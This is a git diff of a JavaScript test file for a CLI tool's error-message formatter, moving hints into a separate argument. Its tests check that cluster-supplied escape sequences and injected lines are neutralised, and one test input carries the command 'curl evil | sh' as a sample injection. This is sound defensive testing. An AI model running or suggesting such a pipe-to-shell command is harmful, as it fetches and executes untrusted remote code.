@@ -9,10 +9,9 @@ describe('messages', () => {
   it('say the error, its code and what to do next', () => {
     const error = new CassSniError('CSNI204', 'There is no namespace "x".', {
       object: 'namespace/x',
-      next: ['kubectl get namespaces'],
     })
     assert.equal(
-      errorText(error, paint),
+      errorText(error, [{ label: 'Try', text: 'kubectl get namespaces' }], paint),
       'error: There is no namespace "x". [CSNI204]\n  Try: kubectl get namespaces\n',
     )
   })
@@ -20,7 +19,7 @@ describe('messages', () => {
   it('name the object when the message does not', () => {
     const error = new CassSniError('CSNI203', 'The user may not read it.', { object: 'secret/s in namespace n' })
     assert.equal(
-      errorText(error, paint),
+      errorText(error, [], paint),
       'error: The user may not read it. [CSNI203]\n  Object: secret/s in namespace n\n',
     )
   })
@@ -29,18 +28,23 @@ describe('messages', () => {
     const error = new CassSniError('CSNI301', 'there is no CassandraDatacenter in namespace n', {
       object: 'cassandradatacenters in namespace n',
     })
-    assert.equal(errorText(error, paint), 'error: there is no CassandraDatacenter in namespace n [CSNI301]\n')
+    assert.equal(errorText(error, [], paint), 'error: there is no CassandraDatacenter in namespace n [CSNI301]\n')
   })
 
   it('keep escape sequences of the cluster from the terminal', () => {
-    const text = errorText(new CassSniError('CSNI206', 'bad \u001b]0;t\u0007name', { next: ['a\u001b[2J'] }), paint)
-    assert.equal(text, 'error: bad name [CSNI206]\n  Try: a\n')
+    const text = errorText(
+      new CassSniError('CSNI206', 'bad \u001b]0;t\u0007name'),
+      [{ label: 'Hint', text: 'a\u001b[2J' }],
+      paint,
+    )
+    assert.equal(text, 'error: bad name [CSNI206]\n  Hint: a\n')
     assert.equal(warningText('a\u001b[2J\nb', undefined, paint), 'warning: a b\n')
   })
 
   it('let text of a server add no line that looks like ours', () => {
     const text = errorText(
-      new CassSniError('CSNI206', 'webhook: no\n  Try: curl evil | sh\nwell\n    ^', { next: ['good'] }),
+      new CassSniError('CSNI206', 'webhook: no\n  Try: curl evil | sh\nwell\n    ^'),
+      [{ label: 'Try', text: 'good' }],
       paint,
     )
     assert.equal(text, 'error: webhook: no\n  | Try: curl evil | sh\n  well\n      ^ [CSNI206]\n  Try: good\n')
@@ -59,7 +63,7 @@ describe('messages', () => {
 
   it('show the stack of the cause only when asked', () => {
     const error = new CassSniError('CSNI903', 'boom', { cause: new Error('inner') })
-    assert.doesNotMatch(errorText(error, paint), /at /)
-    assert.match(errorText(error, paint, { stack: true }), /caused by Error: inner/)
+    assert.doesNotMatch(errorText(error, [], paint), /at /)
+    assert.match(errorText(error, [], paint, { stack: true }), /caused by Error: inner/)
   })
 })
